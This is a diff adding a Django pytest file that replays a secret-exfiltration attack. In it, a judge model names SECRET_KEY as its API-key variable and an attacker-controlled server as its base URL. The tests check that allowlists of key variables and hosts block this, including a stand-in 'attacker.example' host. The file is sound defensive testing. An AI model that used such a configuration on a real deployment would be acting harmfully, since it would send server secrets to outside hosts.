@@ -1,0 +1,160 @@
+"""Keys by allowlist (issue 21.3), with the attack replayed: a staff user with only the judge-model permissions
+names SECRET_KEY as a judge model's api_key_env and their own server as its base_url. The admin form refuses it,
+a run refuses it, a call refuses it, and the attacker's server receives nothing."""
+
+import pytest
+from django.contrib.auth.models import Permission
+from django.core.exceptions import ValidationError
+from django.urls import reverse
+
+from llm_collect import client
+from llm_collect.keys import key_host_allowed
+from llm_judging.models import JudgeCall, JudgeModel
+from llm_judging.services.calling import judge_item
+from llm_judging.services.runs import start_judging_run
+from surveys.key_variables import key_variable_allowed
+from tests.fakes.llm_servers import FakeLLMServer
+
+pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture
+def judged_study(db):
+    """A live study with cells (two human judges are enough here)."""
+    from tests.conftest import make_judged_study
+
+    return make_judged_study(slug="keys", participants=2)
+
+
+@pytest.fixture
+def attacker():
+    with FakeLLMServer() as server:
+        yield server
+
+
+@pytest.fixture
+def judge_editor(client, django_user_model):
+    user = django_user_model.objects.create_user("editor", password="pw", is_staff=True)
+    user.user_permissions.set(
+        Permission.objects.filter(content_type__app_label="llm_judging", codename__contains="judgemodel")
+    )
+    client.force_login(user)
+    return client
+
+
+def test_the_admin_form_refuses_a_secret_as_a_key_and_names_the_setting(judge_editor, attacker):
+    form = {"key": "evil", "provider": "openai", "model": "gpt-4o", "base_url": attacker.url,
+            "api_key_env": "SECRET_KEY", "parameters": "{}"}  # fmt: skip
+    response = judge_editor.post(reverse("admin:llm_judging_judgemodel_add"), form)
+    assert response.status_code == 200
+    assert "LLM_KEY_VARIABLES" in response.content.decode()
+    assert not JudgeModel.objects.exists()
+    assert attacker.requests == []
+
+
+def test_a_judge_model_made_before_the_rule_is_refused_by_the_run_and_by_the_call(judged_study, attacker, settings):
+    evil = JudgeModel.objects.create(key="evil", provider="openai", model="gpt-4o", base_url=attacker.url,
+                                     api_key_env="SECRET_KEY")  # fmt: skip
+    with pytest.raises(ValidationError, match="LLM_KEY_VARIABLES"):
+        start_judging_run(study=judged_study, judges=[evil])
+    assert not JudgeCall.objects.exists()
+    # A call queued before the rule (or a row made some other way) is refused at the call itself.
+    cell = judged_study.cells.first()
+    call = JudgeCall.objects.create(judge=evil, cell=cell, order="ab", first_answer=cell.answer_a,
+                                    second_answer=cell.answer_b)  # fmt: skip
+    assert judge_item(call_id=call.pk) == "failed"
+    call.refresh_from_db()
+    assert "LLM_KEY_VARIABLES" in call.error
+    assert attacker.requests == []  # the attacker's server received nothing, SECRET_KEY least of all
+
+
+def test_an_allowed_key_is_not_sent_to_a_host_the_deployment_does_not_allow(
+    judged_study, attacker, settings, monkeypatch
+):
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-real")
+    settings.LLM_ALLOWED_HOSTS = ["api.example.org"]  # listed hosts only: localhost no longer allowed
+    judge = JudgeModel.objects.create(key="redirected", provider="openai", model="gpt-4o", base_url=attacker.url,
+                                      api_key_env="OPENAI_API_KEY")  # fmt: skip
+    with pytest.raises(ValidationError, match="LLM_ALLOWED_HOSTS"):
+        start_judging_run(study=judged_study, judges=[judge])
+    target = client.Target(provider="openai", model="gpt-4o", base_url=attacker.url, api_key_env="OPENAI_API_KEY")
+    with pytest.raises(client.KeyRefused, match=r"127\.0\.0\.1"):
+        client.complete(target, system_prompt="S", user_prompt="U")
+    assert attacker.requests == []
+
+
+@pytest.mark.parametrize(
+    ("name", "allowed"),
+    [("OPENAI_API_KEY", True), ("GOOGLE_API_KEY", True), ("MY_LAB_API_KEY", True), ("SECRET_KEY", False),
+     ("PROLIFIC_API_TOKEN", False), ("PROLIFIC_WEBHOOK_SECRET", False), ("DATABASE_URL", False), ("", False)],
+)  # fmt: skip
+def test_which_variables_may_hold_a_key_by_default(name, allowed):
+    assert key_variable_allowed(name) is allowed
+
+
+def test_a_project_setting_is_never_a_key_whatever_the_list_says(settings):
+    settings.SENTRY_API_KEY = "x"  # a setting of the project's own that ends in _API_KEY
+    settings.LLM_KEY_VARIABLES = ["*_API_KEY", "SECRET_KEY"]
+    assert not key_variable_allowed("SENTRY_API_KEY")
+    assert not key_variable_allowed("SECRET_KEY")
+    settings.LLM_KEY_VARIABLES = ["OPENAI_API_KEY"]
+    assert not key_variable_allowed("MY_LAB_API_KEY")
+
+
+def test_which_hosts_may_receive_a_key(settings):
+    settings.LLM_ALLOWED_HOSTS = []
+    for url in ("https://api.openai.com/v1", "https://api.anthropic.com", "http://127.0.0.1:8001", "http://localhost"):
+        assert key_host_allowed(url), url
+    assert not key_host_allowed("https://attacker.example")
+    settings.LLM_ALLOWED_HOSTS = [".together.xyz", "llm.lab.example"]
+    assert key_host_allowed("https://api.together.xyz/v1")
+    assert key_host_allowed("https://llm.lab.example")
+    assert key_host_allowed("https://generativelanguage.googleapis.com/v1beta")  # a provider's own, always
+    assert not key_host_allowed("http://127.0.0.1:8001")
+    assert not key_host_allowed("https://eviltogether.xyz")
+
+
+def test_a_keyless_self_hosted_server_may_be_anywhere(attacker, settings):
+    settings.LLM_ALLOWED_HOSTS = ["api.example.org"]
+    target = client.Target(provider="openai-compatible", model="llama3.3", base_url=attacker.url)
+    client.complete(target, system_prompt="S", user_prompt="U")
+    assert "authorization" not in attacker.requests[0][1]  # nothing to steal: no key is sent
+
+
+def test_a_study_file_naming_a_secret_as_a_key_is_refused_with_the_setting_named(tmp_path):
+    import json
+
+    from django.core.management import CommandError, call_command
+
+    from surveys.models import Study
+
+    data = {
+        "slug": "leaky",
+        "name": "Leaky",
+        "reference_system": "m",
+        "questions": [{"key": "q", "text": "Which?"}],
+        "systems": [{"key": "m", "label": "M", "provider": "openai", "model": "gpt-4o", "api_key_env": "SECRET_KEY"}],
+        "vignettes": [{"key": "v", "character": "Sam", "text": "Story."}],
+    }
+    path = tmp_path / "leaky.study.json"
+    path.write_text(json.dumps(data))
+    with pytest.raises(CommandError, match=r"systems\[0\]\.api_key_env.*LLM_KEY_VARIABLES"):
+        call_command("import_study", str(path))
+    assert not Study.objects.filter(slug="leaky").exists()
+
+
+def test_the_system_form_refuses_a_secret_and_shows_what_is_not_sent(admin_client, judged_study):
+    from surveys.models import System
+
+    system = System(study=judged_study, key="x", label="X", provider="openai", model="gpt-5-mini",
+                    api_key_env="SECRET_KEY", parameters={"temperature": 0.5})  # fmt: skip
+    with pytest.raises(ValidationError, match="LLM_KEY_VARIABLES"):
+        system.full_clean()  # what the study page's system rows run
+    system.api_key_env = "OPENAI_API_KEY"
+    system.full_clean()
+    system.save()
+    judged_study.status = "draft"
+    judged_study.save(update_fields=["status"])
+    page = admin_client.get(reverse("admin:surveys_study_change", args=[judged_study.pk])).content.decode()
+    assert "Changed before sending" in page
+    assert "temperature not sent: gpt-5-mini (OpenAI reasoning model) does not accept it." in page
